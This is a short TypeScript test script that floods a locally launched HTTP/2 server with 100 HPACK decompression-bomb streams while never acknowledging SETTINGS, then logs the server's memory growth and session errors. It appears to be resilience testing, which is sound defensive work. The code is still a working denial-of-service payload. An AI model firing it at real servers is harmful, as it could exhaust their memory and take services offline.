/** Spike 5i: worst case before the client ACKs SETTINGS: 100 streams (maxConcurrentStreams 100), each an HPACK
 * bomb of 120 references to a 4000-byte entry (~470 KB decoded each), to /hang so they stay open. */
import { sleep } from "./common.ts"
import { connect, F, frame, hpack, requestBlock, summary, T } from "./h2raw.ts"
import { startVictim } from "./victimctl.ts"
for (const h2 of [{ settings: { maxConcurrentStreams: 100, maxHeaderListSize: 16384 } }, { settings: { maxConcurrentStreams: 100, maxHeaderListSize: 16384 }, maxSessionMemory: 2 }]) {
  const v = await startVictim({ h2 })
  const before = await v.stats()
  const { socket, seen, closed } = await connect(v.port, { ackSettings: false })
  const frames: Buffer[] = [frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, 1, requestBlock("/hang", [hpack.literalIncremental("x-bomb", "b".repeat(4000))]))]
  for (let i = 1, id = 3; i < 100; i++, id += 2) frames.push(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, id, requestBlock("/hang", Array.from({ length: 120 }, () => hpack.indexed(62)))))
  socket.write(Buffer.concat(frames))
  await Promise.race([closed, sleep(1500)])
  const s = await v.stats()
  console.log(`${JSON.stringify(h2)}, never ACKs SETTINGS: ${summary(seen)}; server requests=${s.requests}, rss ${before.rssMiB} -> ${s.rssMiB} MiB, sessionErrors=${JSON.stringify(s.sessionErrors)}`)
  v.child.kill()
}
process.exit(0)
